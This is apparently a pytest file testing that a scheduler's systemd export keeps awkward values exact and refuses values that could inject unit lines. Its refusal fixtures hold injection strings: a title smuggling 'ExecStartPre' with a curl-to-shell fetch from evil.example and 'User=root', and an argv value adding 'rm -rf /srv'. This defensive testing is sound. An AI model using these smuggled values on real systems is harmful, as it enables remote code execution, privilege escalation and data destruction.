"""``schedctl export systemd`` with hostile values: every title, argv element, variable and working
directory reaches systemd exactly (read back by systemd's own rules, and by systemd itself where
``systemd-analyze`` is installed), or the export is refused in one line naming the key, and no
unit is written: a line break must never start a line of its own (``User=root``) in a unit."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from core.spec.files import dump_yaml, load_spec
from tests.core import systemd_reader
from tests.core.conftest import Run
from tests.core.helpers import make_data

NOW = ["--now", "2026-03-01T12:00:00Z"]


def _document(title: str, argv: list[str], env: dict[str, str], cwd: str | None) -> dict[str, Any]:
    task: dict[str, Any] = {"argv": argv, "env": env, "timeout": "PT1H"}
    if cwd is not None:
        task["cwd"] = cwd
    return make_data(
        scheduleId="nightly",
        title=title,
        misfirePolicy="SKIP",
        overlapPolicy="SKIP",
        retry={"maxAttempts": 1},
        task=task,
    )


def _export(run: Run, tmp_path: Path, document: dict[str, Any]) -> tuple[int, str, str, Path]:
    spec = tmp_path / "nightly.yaml"
    spec.write_text(dump_yaml(document), encoding="utf-8")
    units = tmp_path / "units"
    status, stdout, stderr = run("export", "systemd", str(spec), "--out", str(units), *NOW)
    return status, stdout, stderr, units


EXACT = [
    pytest.param(
        "100% sure: %h and %i stay text",
        ["/bin/echo", "100%", "%h", "%%", "50%off"],
        {"RATE": "100%", "HOME_SPEC": "%h"},
        "/srv/100%/%h",
        id="percent_specifiers",
    ),
    pytest.param(
        "costs $5",
        ["/bin/echo", "$HOME", "${USER}", "$$", "a$b", "$"],
        {"PRICE": "$5", "REF": "${HOME}"},
        "/srv/$HOME",
        id="dollar_variables",
    ),
    pytest.param(
        'say "hi" \\ there',
        ["/bin/echo", 'quo"te', "it's", "back\\slash", "end\\", "\\", '"', "'", "\\n"],
        {"Q": '"quoted"', "S": "'single'", "B": "a\\b\\", "N": "\\n"},
        "/srv/a\\b/'q'/\"d\"",
        id="quotes_and_backslashes",
    ),
    pytest.param(
        "  spaced  title  ",
        ["/bin/echo", "a b", " lead", "trail ", "tab\there", "\t", "  "],
        {"SPACED": "a b", "EDGES": " x ", "TAB": "a\tb"},
        "/srv/my dir/with  two",
        id="spaces_and_tabs",
    ),
    pytest.param(
        "semicolon; and # hash",
        ["/bin/echo", "", ";", "a;b", "#", "-x", "+y", "@z", ":w", "!v"],
        {"EMPTY": "", "SEMI": ";", "HASH": "#x"},
        None,
        id="empty_semicolon_and_prefix_words",
    ),
    pytest.param(
        "Grüße – ünïcödé",
        ["/bin/echo", "naïve café", "日本語", "\u00a0nbsp\u00a0"],
        {"GREETING": "Grüße"},
        "/srv/café",
        id="unicode",
    ),
]


@pytest.mark.parametrize(("title", "argv", "env", "cwd"), EXACT)
def test_every_value_reaches_systemd_exactly(
    run: Run, tmp_path: Path, title: str, argv: list[str], env: dict[str, str], cwd: str | None
) -> None:
    status, stdout, stderr, units = _export(run, tmp_path, _document(title, argv, env, cwd))
    assert (status, stderr) == (0, ""), stderr
    assert "exact: systemd runs it when the spec does" in stdout
    service = systemd_reader.settings((units / "nightly.service").read_text(encoding="utf-8"))
    timer = systemd_reader.settings((units / "nightly.timer").read_text(encoding="utf-8"))
    [exec_start] = service["Service.ExecStart"]
    assert systemd_reader.command(exec_start, {"HOME": "/root", "USER": "root"}) == argv
    assert systemd_reader.environment(service["Service.Environment"]) == env
    assert [systemd_reader.specifiers(v) for v in service["Service.WorkingDirectory"]] == ([cwd] if cwd else [])
    for unit in (service, timer):
        assert [systemd_reader.specifiers(v) for v in unit["Unit.Description"]] == [title.strip()]
    loaded = systemd_reader.analyzed(units, "nightly.timer", "nightly.service")
    if loaded is None:
        return
    assert loaded["nightly.timer"]["Description"][0] == loaded["nightly.service"]["Description"][0] == title.strip()
    assert [systemd_reader.dumped_command(line) for line in loaded["nightly.service"]["Command Line"]] == [argv]
    assert loaded["nightly.service"]["Environment"] == [f"{name}={value}" for name, value in env.items()]
    if cwd is not None:
        assert loaded["nightly.service"]["WorkingDirectory"] == [cwd]


def test_systemd_fills_in_no_variable_of_the_command() -> None:
    """A ``$`` anywhere makes the line start with ``:``: systemd would fill ``$HOME`` in, and reads
    ``$$`` as ``$`` in the arguments but not in the program's own path, which it runs as written."""
    from core.exporting.unit_syntax import command_line

    assert command_line(["/opt/$app/run", "$HOME"], "task.argv") == ":/opt/$app/run $HOME"
    assert command_line(["/bin/echo", "100%"], "task.argv") == "/bin/echo 100%%"


_ATTACK = "Nightly\nExecStartPre=/bin/sh -c 'curl -s evil.example | sh'\nUser=root"
_CANNOT = "a systemd unit cannot hold one"

REFUSED = [
    pytest.param({"title": _ATTACK}, f"title has a line break: {_CANNOT}", id="title_line_break_user_root"),
    pytest.param({"env": {"FOO": "x\nUser=root"}}, f"task.env.FOO has a line break: {_CANNOT}", id="env_line_break"),
    pytest.param({"env": {"FOO": "x\ry"}}, f"task.env.FOO has a line break: {_CANNOT}", id="env_carriage_return"),
    pytest.param({"cwd": "/srv\nUser=root"}, f"task.cwd has a line break: {_CANNOT}", id="cwd_line_break"),
    pytest.param(
        {"argv": ["/bin/echo", "ok", "x\nExecStartPre=/bin/rm -rf /srv"]},
        f"task.argv[2] has a line break: {_CANNOT}",
        id="argv_line_break",
    ),
    pytest.param(
        {"argv": ["/bin/echo", "\x1b[2J"]},
        f"task.argv[1] has a control character (U+001B): {_CANNOT}",
        id="argv_escape_character",
    ),
    pytest.param(
        {"title": "ends in \\"},
        "title ends with a backslash, which a systemd unit reads as going on with the next line",
        id="title_continues_the_line",
    ),
    pytest.param(
        {"cwd": "/srv/data\\"},
        "task.cwd ends with a backslash, which a systemd unit reads as going on with the next line",
        id="cwd_continues_the_line",
    ),
    pytest.param(
        {"cwd": "data"},
        "task.cwd 'data' is not an absolute path; systemd takes only one as WorkingDirectory=",
        id="cwd_relative",
    ),
    pytest.param(
        {"cwd": "/srv/../etc"},
        "task.cwd '/srv/../etc' has a '..' part; systemd refuses such a WorkingDirectory=",
        id="cwd_dot_dot",
    ),
    pytest.param({"cwd": "/srv/x "}, "task.cwd '/srv/x ' ends with a space, which systemd drops", id="cwd_trailing"),
    pytest.param(
        {"argv": ["+/bin/sh", "-c", "id"]},
        "task.argv[0] '+/bin/sh' starts with '+', which systemd reads as a prefix of ExecStart=",
        id="program_full_privileges_prefix",
    ),
    pytest.param(
        {"argv": ["-/bin/false"]},
        "task.argv[0] '-/bin/false' starts with '-', which systemd reads as a prefix of ExecStart=",
        id="program_ignore_failure_prefix",
    ),
    pytest.param(
        {"argv": ["bin/run"]},
        "task.argv[0] 'bin/run' is a relative path; systemd runs an absolute path or a name it looks up",
        id="program_relative_path",
    ),
]


@pytest.mark.parametrize(("change", "why"), REFUSED)
def test_a_value_no_unit_line_can_hold_is_refused_and_nothing_is_written(
    run: Run, tmp_path: Path, change: dict[str, Any], why: str
) -> None:
    keys: dict[str, Any] = {"title": "Nightly", "argv": ["/bin/echo", "hi"], "env": {}, "cwd": None, **change}
    status, stdout, stderr, units = _export(run, tmp_path, _document(**keys))
    assert (status, stdout) == (2, "")
    assert stderr == f"{tmp_path / 'nightly.yaml'}: no systemd equivalent: {why}\n"
    assert not units.exists()


@pytest.mark.parametrize(("title", "argv", "env", "cwd"), EXACT)
def test_an_exported_unit_imports_back_to_the_same_task(
    run: Run, tmp_path: Path, title: str, argv: list[str], env: dict[str, str], cwd: str | None
) -> None:
    """``import systemd`` reads an exported unit as systemd does: ``%%`` in the title and the
    working directory is ``%`` again, quoted words and variables come back as they were."""
    status, _, stderr, units = _export(run, tmp_path, _document(title, argv, env, cwd))
    assert (status, stderr) == (0, ""), stderr
    back = tmp_path / "back"
    status, _, stderr = run(
        "import", "systemd", str(units / "nightly.timer"), "--zone", "UTC", "--out", str(back), *NOW
    )
    assert status == 0, stderr
    spec = load_spec(back / "nightly.yaml")
    assert (spec.title, spec.task.argv, dict(spec.task.env or {}), spec.task.cwd) == (title.strip(), argv, env, cwd)
